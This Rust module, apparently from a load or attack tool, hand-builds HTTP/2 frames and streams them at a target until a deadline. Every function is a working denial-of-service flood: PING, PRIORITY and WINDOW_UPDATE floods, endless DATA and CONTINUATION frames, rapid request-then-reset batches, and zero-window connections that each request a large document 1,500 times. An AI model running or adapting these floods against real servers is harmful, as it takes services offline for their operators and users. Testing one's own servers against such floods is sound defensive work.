//! Frames of HTTP/2, by hand.

use crate::attacks::{hold, stream};
use crate::program::Target;
use tokio::time::Instant;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const DATA: u8 = 0;
pub const PRIORITY: u8 = 2;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;

/// A frame (RFC 9113, section 4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request of a path, as literals without indexing (RFC 7541): the method is 0x82 for GET, 0x83 for POST.
pub fn request(stream: u32, method: u8, flags: u8, path: &str) -> Vec<u8> {
    let literal = |index: u8, text: &str| [&[index, u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    let block = [vec![method, 0x86], literal(4, path), literal(1, "localhost")].concat();
    frame(1, flags, stream, &block)
}

/// What a client begins with.
pub fn opening(settings: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
}

fn odd(i: usize) -> u32 {
    u32::try_from(2 * (i % 1_000_000) + 1).unwrap()
}

/// The same frame without an end, after this opening.
async fn same(target: &Target, until: Instant, opening: Vec<u8>, frame: Vec<u8>) {
    let batch = frame.repeat(500);
    stream(target, 4, until, opening, move |_| batch.clone()).await;
}

/// Frames that ask for nothing.
pub async fn control(target: &Target, until: Instant, kind: u8) {
    let (stream, payload): (u32, &[u8]) = match kind {
        PING => (0, &[0; 8]),
        PRIORITY => (1, &[0, 0, 0, 3, 7]),
        WINDOW_UPDATE => (0, &[0, 0, 0, 1]),
        _ => (0, &[]),
    };
    same(target, until, opening(&[]), frame(kind, 0, stream, payload)).await;
}

/// A body of frames with so many bytes, which has no end.
pub async fn body(target: &Target, until: Instant, payload: &[u8]) {
    let opening = [opening(&[]), request(1, 0x83, 0x4, "/graphql")].concat();
    same(target, until, opening, frame(DATA, 0, 1, payload)).await;
}

/// A head that goes on for ever.
pub async fn head(target: &Target, until: Instant) {
    let opening = [opening(&[]), request(1, 0x82, 0, "/healthz")].concat();
    same(target, until, opening, frame(CONTINUATION, 0, 1, &[])).await;
}

/// Requests that are given up at once.
pub async fn resets(target: &Target, until: Instant) {
    let batch = |turn: usize| -> Vec<u8> {
        let both = |i: usize| [request(odd(i), 0x82, 0x5, "/graphiql"), frame(RST_STREAM, 0, odd(i), &[0; 4])].concat();
        (turn * 50..turn * 50 + 50).flat_map(both).collect()
    };
    stream(target, 4, until, opening(&[]), batch).await;
}

/// Connections with a window of nothing, each of which asks for the largest document 1,500 times.
pub async fn no_window(target: &Target, until: Instant) {
    let opening = opening(&[0, 4, 0, 0, 0, 0]);
    let asked: Vec<u8> = (0..1_500).flat_map(|i| request(odd(i), 0x82, 0x5, "/api/openapi.json")).collect();
    hold(target, 20, until, |_| [&opening[..], &asked].concat()).await;
}
